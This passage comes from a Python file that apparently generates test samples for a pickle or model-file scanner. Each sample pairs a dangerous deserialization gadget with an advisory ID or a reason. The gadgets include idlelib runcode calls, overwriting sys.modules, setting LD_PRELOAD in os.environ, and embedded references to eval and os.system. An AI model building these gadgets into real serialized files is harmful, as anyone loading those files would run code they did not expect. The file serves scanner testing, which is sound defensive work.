            call(named("lib2to3.pgen2.grammar", "Grammar")),
            bytearray(PAYLOAD),
        ),
        "GHSA-f54q-57x4-jg88",
        None,
    )
    yield sample(
        "ParserGenerator.make_label",
        call(stacked("lib2to3.pgen2.pgen", "ParserGenerator.make_label"), None, None, _OPEN),
        "GHSA-p9w7-82w4-7q8m",
        None,
    )
    yield sample(
        "AutoComplete.get_entity",
        call(stacked("idlelib.autocomplete", "AutoComplete.get_entity"), None, _OPEN),
        "GHSA-6w4w-5w54-rjvr",
        None,
    )
    yield sample(
        "ObjectTreeItem.SetText",
        call(stacked("idlelib.debugobj", "ObjectTreeItem.SetText"), None, "1"),
        "GHSA-3vg9-h568-4w9m",
        None,
    )
    yield sample(
        "ModifiedInterpreter.runcode",
        call(stacked("idlelib.pyshell", "ModifiedInterpreter.runcode"), None, None),
        "GHSA-3gf5-cxq9-w223",
        None,
    )
    yield sample(
        "Executive.runcode", call(stacked("idlelib.run", "Executive.runcode"), None, None), "GHSA-m869-42cg-3xwr", None
    )
    yield sample(
        "exception with arguments", call(named("builtins", "Exception"), COMMAND), "exceptions are no data", None
    )
    yield sample(
        "operator.setitem on sys.modules",
        call(named("operator", "setitem"), named("sys", "modules"), "os", 1),
        "replaces modules",
        None,
    )
    yield sample(
        "environment",
        call(named("operator", "setitem"), named("os", "environ"), "LD_PRELOAD", "/tmp/x"),
        "changes what later processes load",
        None,
    )
    yield sample(
        "builtins as data",
        push({"a": named("builtins", "eval")}),
        "a reference alone, called by whoever uses the model",
        None,
    )
    yield sample("os.system as data", push({"activation": _SYSTEM}), "a reference alone", None)
